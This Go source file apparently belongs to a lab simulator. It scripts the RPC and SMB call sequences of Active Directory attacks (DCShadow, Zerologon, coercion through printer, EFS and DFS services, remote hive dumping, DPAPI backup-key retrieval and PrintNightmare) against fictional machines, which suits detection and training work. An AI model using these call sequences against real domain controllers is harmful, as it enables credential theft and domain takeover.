package attack

import (
	"time"

	"github.com/yagura-project/yagura/lab/town/life"
	"github.com/yagura-project/yagura/lab/town/stage"
)

// dcshadow registers a domain controller that is none and lets the true one fetch from it.
func dcshadow(a *Act) {
	dc := a.DC(a.Me)
	a.Deed.Victim = dc.Name
	a.Steps(Level(a, 1, 1, 1, 2, 3), func() time.Duration { return a.Around(time.Minute, 0.4) }, func(int) {
		a.RPC(dc, 49671).Call("drsuapi", "DRSBind", 0).Call("drsuapi", "DRSAddEntry", 17).Call("drsuapi", "DRSReplicaAdd", 5, "nc", "DC=town,DC=example").Call("drsuapi", "DRSReplicaDel", 6).End()
		a.Enough(100 * time.Millisecond)
	})
}

// zerologon tries an all-zero credential until it is taken (CVE-2020-1472).
func zerologon(a *Act) {
	dc := a.DC(a.Me)
	a.Deed.Victim = dc.Name
	x := a.RPC(dc, 49670)
	x.Pace = Level(a, time.Second, 200*time.Millisecond, 20*time.Millisecond, 10*time.Millisecond, 5*time.Millisecond)
	n := Level(a, 20, 60, 250, 600, 2000)
	for range n {
		x.Call("netlogon", "NetrServerReqChallenge", 4).Call("netlogon", "NetrServerAuthenticate3", 26, "account", dc.Name+"$", "zero_credential", "true")
	}
	a.Enough(6 * x.Pace)
	a.MarkAt(x.End())
}

// coerce makes a server log on to the intruder: by the printer's service, or by the file system's.
func coerce(a *Act) {
	to := stage.Pick(a.Scene, []*stage.Machine{a.Servers["dc1"], a.Servers["files1"], a.Servers["print"]})
	a.Deed.Victim = to.Name
	a.Steps(Level(a, 1, 1, 1, 4, 10), func() time.Duration { return a.Around(20*time.Second, 0.4) }, func(int) {
		x := a.SMB(to, "IPC$")
		switch a.Rand.IntN(3) {
		case 0:
			x.Pipe("spoolss").Call("spoolss", "RpcOpenPrinterEx", 69).Call("spoolss", "RemoteFindFirstPrinterChangeNotificationEx", 65, "listener", `\\`+a.Me.IP.String())
		case 1:
			x.Pipe("lsarpc").Call("efsrpc", "EfsRpcOpenFileRaw", 0, "path", `\\`+a.Me.IP.String()+`\x\y.txt`)
		default:
			x.Pipe("netdfs").Call("netdfs", "NetrDfsAddStdRoot", 12, "server", a.Me.IP.String())
		}
		x.End()
		a.Enough(200 * time.Millisecond)
	})
}

// dump saves the registry of another machine, where the keys of its accounts are, and fetches the copies.
func dump(a *Act) {
	a.Steps(Level(a, 1, 1, 1, 3, 6), func() time.Duration { return a.Around(time.Minute, 0.4) }, func(int) {
		to := a.Other()
		a.Deed.Victim = to.Name
		x := a.SMBAs(to, "ADMIN$", life.Admin, false).Pipe("winreg").Call("winreg", "OpenLocalMachine", 2)
		for _, hive := range []string{"SAM", "SECURITY"} {
			x.Call("winreg", "BaseRegCreateKey", 6, "key", hive).Call("winreg", "BaseRegSaveKey", 20, "file", `C:\Windows\Temp\`+hive[:2]+`8fK2.tmp`)
		}
		x.Read(`Temp\SA8fK2.tmp`, 90_000, "").End()
		a.Enough(300 * time.Millisecond)
	})
}

// backupKey asks for the key with which the secrets of all users can be read (MS-LSAD, MS-BKRP).
func backupKey(a *Act) {
	dc := a.DC(a.Me)
	a.Deed.Victim = dc.Name
	a.SMBAs(dc, "IPC$", life.Admin, false).Pipe("lsarpc").Call("lsarpc", "LsarOpenPolicy2", 44).Call("lsarpc", "LsarRetrievePrivateData", 43, "key", "G$BCKUPKEY_PREFERRED").End()
	a.Enough(200 * time.Millisecond)
}

// printNightmare installs a driver whose program lies on the intruder's machine.
func printNightmare(a *Act) {
	to := stage.Pick(a.Scene, []*stage.Machine{a.Servers["print"], a.Servers["dc1"]})
	a.Deed.Victim = to.Name
	a.Steps(Level(a, 1, 1, 1, 3, 5), func() time.Duration { return a.Around(10*time.Second, 0.4) }, func(int) {
		a.SMB(to, "IPC$").Pipe("spoolss").Call("spoolss", "AddPrinterDriverEx", 89, "file", `\\`+a.Me.IP.String()+`\share\a.dll`).End()
		a.Enough(100 * time.Millisecond)
	})
}
